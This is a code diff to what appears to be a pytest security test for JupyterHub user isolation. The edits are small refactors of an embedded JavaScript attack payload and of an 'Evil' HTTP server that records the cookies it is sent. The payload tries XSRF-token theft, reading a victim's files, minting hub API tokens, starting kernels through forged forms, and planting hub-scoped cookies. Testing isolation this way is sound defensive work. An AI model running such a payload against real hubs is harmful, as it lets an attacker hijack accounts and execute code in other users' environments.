@@ -13,6 +13,7 @@ import subprocess
 import threading
 import urllib.request
 from contextlib import contextmanager
+from typing import ClassVar
 
 import psutil
 import pytest
@@ -39,14 +40,17 @@ ATTACK = """async ([hub, victim, name]) => {
   const form = (url, fields) => new Promise(yes => {
     const target = document.createElement('iframe'); target.name = 'f' + Math.random(); document.body.append(target);
     const f = document.createElement('form'); f.method = 'POST'; f.action = url; f.target = target.name;
-    for (const [key, value] of Object.entries(fields)) { const i = document.createElement('input'); i.name = key; i.value = value; f.append(i); }
+    for (const [key, value] of Object.entries(fields)) {
+      const i = document.createElement('input'); i.name = key; i.value = value; f.append(i);
+    }
     document.body.append(f); target.onload = () => yes('sent'); f.submit();
   });
   const xsrf = (document.cookie.match(/_xsrf=(?!tossed)([^;]+)/) || [])[1];
   await tried('files', async () => (await fetch(`${victim}/api/contents?_xsrf=${xsrf}`, mine)).text());
   await tried('page', async () => (await fetch(`${victim}/lab`, mine)).text());
   await tried('token', async () => (await fetch(`${hub}/hub/token`, mine)).text());
-  await tried('new token', async () => (await fetch(`${hub}/hub/api/users/${name}/tokens`, {...mine, method: 'POST', body: '{}'})).text());
+  const tokens = `${hub}/hub/api/users/${name}/tokens`;
+  await tried('new token', async () => (await fetch(tokens, {...mine, method: 'POST', body: '{}'})).text());
   await tried('kernel', async () => (await fetch(`${victim}/api/kernels`, post)).type);
   await tried('frame', () => frame(`${victim}/lab`));
   await tried('frame of the hub', () => frame(`${hub}/hub/home`));
@@ -57,7 +61,7 @@ ATTACK = """async ([hub, victim, name]) => {
       document.cookie = `${cookie}; domain=${new URL(hub).hostname}; path=${path}`;
   }
   await tried('form', () => form(`${victim}/api/kernels`, {_xsrf: 'tossed', name: 'python3'}));
-  await tried('form of the hub', () => form(`${hub}/hub/api/users/${name}/tokens`, {_xsrf: 'tossed'}));
+  await tried('form of the hub', () => form(tokens, {_xsrf: 'tossed'}));
   await tried('kernel again', async () => (await fetch(`${victim}/api/kernels?_xsrf=tossed`, post)).type);
   return told;
 }"""
@@ -66,7 +70,7 @@ ATTACK = """async ([hub, victim, name]) => {
 class Evil(http.server.BaseHTTPRequestHandler):
     """Any page, and a script for any worker; keeps what cookies it was sent."""
 
-    cookies: list[str] = []
+    cookies: ClassVar[list[str]] = []
 
     def do_GET(self):
         self.cookies.append(self.headers.get("Cookie", ""))
